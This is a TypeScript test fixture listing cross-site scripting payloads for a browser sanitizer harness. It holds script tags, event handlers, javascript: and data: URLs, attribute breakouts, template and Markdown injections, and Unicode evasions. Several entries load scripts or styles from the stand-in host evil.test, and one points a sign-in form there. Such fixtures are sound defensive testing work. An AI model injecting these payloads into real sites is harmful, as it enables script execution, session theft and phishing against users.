/**
 * Texts that become a script, a link or a style in a careless page. A script among them calls `xss()`, which the harness of
 * the browser reports, and some load something from `evil.test`.
 */
export const xssPayloads = [
  // Tags with scripts.
  '<script>xss()</script>',
  '<ScRiPt src=//evil.test/a.js></sCrIpT>',
  '<script type="module">xss()</script >',
  '</script><script>xss()</script>',
  '<script\n>xss()</script\t>',
  '<<script>xss();//<</script>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  // Event handlers.
  '<img src=x onerror=xss()>',
  '<img/src=x/onerror=xss()>',
  '<body onload=xss()>',
  '<video><source onerror=xss()></video>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<div style="animation-name:pulse" onanimationstart=xss()>',
  '<a href="#" onclick="xss()" accesskey=x>x</a>',
  // SVG, MathML and other documents.
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object data="data:text/html,<script>xss()</script>"></object>',
  '<embed src="//evil.test/x.swf">',
  '<template><script>xss()</script></template>',
  // Addresses.
  'javascript:xss()',
  'JaVaScRiPt:xss()//https://example.test/',
  'java\tscript:xss()',
  'data:text/html,<script>xss()</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.test/%2e%2e',
  'https://example.test@evil.test/',
  // Ends of attributes and elements.
  '" onmouseover="xss()" x="',
  "' onfocus='xss()' autofocus tabindex='0",
  '"><img src=x onerror=xss()>',
  '</title></textarea></style></pre><img src=x onerror=xss()>',
  '--><img src=x onerror=xss()><!--',
  ']]><img src=x onerror=xss()>',
  '` onerror=xss() x=`',
  // Templates and entities.
  '${xss()}',
  '{{constructor.constructor("xss()")()}}',
  '<%= xss() %>#{xss()}',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;img src=x onerror=xss()&#62;',
  // Markdown.
  '[link](javascript:xss())',
  '[link](<java\nscript:xss()>) ![image](https://evil.test/a.png)',
  '![image](x"onerror="xss())',
  '<https://evil.test/><javascript:xss()>\n\n[a]: javascript:xss()\n[a]',
  // Styles and loads.
  '<style>@import "//evil.test/a.css";*{background:url(//evil.test/b)}</style>',
  '<link rel=stylesheet href=//evil.test/a.css><meta http-equiv=refresh content="0;url=//evil.test/">',
  '<base href="//evil.test/"><form action="//evil.test/"><button autofocus>Sign in</button></form>',
  // Unicode: wide and overlong forms, null bytes, directions, separators.
  '\uFF1Cscript\uFF1Exss()\uFF1C/script\uFF1E',
  '\u00C0\u00BCscript\u00C0\u00BExss()\u00C0\u00BC/script\u00C0\u00BE',
  '<scr\u0000ipt>xss()</scr\u0000ipt>',
  '\u202Egpj.exe\u2066<img src=x onerror=xss()>\u2069',
  "\u2028xss()//\u2029';xss()//",
] as const;
